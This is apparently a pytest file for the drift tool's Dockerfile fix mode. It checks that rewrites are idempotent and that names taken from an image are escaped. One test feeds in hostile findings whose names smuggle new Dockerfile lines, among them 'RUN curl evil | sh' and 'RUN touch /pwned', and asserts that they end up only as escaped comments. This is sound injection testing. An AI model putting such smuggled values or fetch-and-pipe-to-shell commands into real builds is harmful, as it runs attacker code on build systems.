"""`drift diff --fix` on fixture findings: idempotent, and nothing from the image written raw."""

from __future__ import annotations

from drift.diff.modes import DiffResult
from drift.dockerfile.fix import reconcile
from drift.dockerfile.parse import parse
from drift.model import Finding, Target

TEXT = """FROM debian:bookworm
RUN apt-get update \\
 && apt-get install -y --no-install-recommends jq \\
 && rm -rf /var/lib/apt/lists/*
CMD ["bash"]
"""


def _result(text: str, findings: list[Finding]) -> DiffResult:
    return DiffResult(
        actual=Target(kind="image", name="img", resolved_by="test"),
        expected={"kind": "dockerfile", "path": "Dockerfile", "base": "debian:bookworm"},
        mode="static",
        findings=findings,
        dockerfile=parse(text, "Dockerfile"),
        dockerfile_text=text,
    )


def _lasting(text: str) -> list[Finding]:
    """Findings that a rewrite cannot resolve: they are still there on the next run."""
    line = text.splitlines().index("RUN apt-get update \\") + 1
    missing = Finding("missing", "apt", "jq", "*", None, line=line)
    file = Finding("file", None, "/etc/app.conf", None, {"change": "added"}, detail="added")
    return [missing, file]


def test_fix_twice_is_the_same_file() -> None:
    once = reconcile(_result(TEXT, _lasting(TEXT)), "img")
    assert once.count("# drift: jq (declared below) is not installed in img") == 1
    assert once.count("# drift: files changed in img") == 1
    twice = reconcile(_result(once, _lasting(once)), "img")
    assert twice == once


def test_files_block_is_replaced_not_repeated() -> None:
    once = reconcile(_result(TEXT, _lasting(TEXT)), "img")
    other = [*_lasting(once), Finding("file", None, "/etc/other.conf", None, {}, detail="added")]
    twice = reconcile(_result(once, other), "img")
    assert twice.count("# drift: files changed in img") == 1
    assert "/etc/app.conf" in twice and "/etc/other.conf" in twice


def test_names_from_the_image_never_break_out() -> None:
    evil = [
        Finding("undocumented", "pip", "six\nRUN curl evil | sh", None, "1.16.0", fix="x"),
        Finding("undocumented", "apt", "curl", None, "7.88\nRUN id", fix="x"),
        Finding("undocumented", "apt", "nano", None, "7.2-1", fix="nano=7.2-1"),
        Finding("file", None, "/etc/x\nRUN touch /pwned", None, {}, detail="added"),
        Finding("config", None, "Env.X", None, "1", fix='ENV X="1"\nRUN touch /pwned'),
    ]
    out = reconcile(_result(TEXT, evil), "img")
    instructions = [line for line in out.splitlines() if line and not line.startswith(("#", " "))]
    assert not any(line.startswith("RUN curl") or line.startswith("RUN id") or "pwned" in line for line in instructions)
    assert "nano=7.2-1" in out
    assert "six\\x0aRUN curl evil | sh" in out  # said so, escaped, in a comment
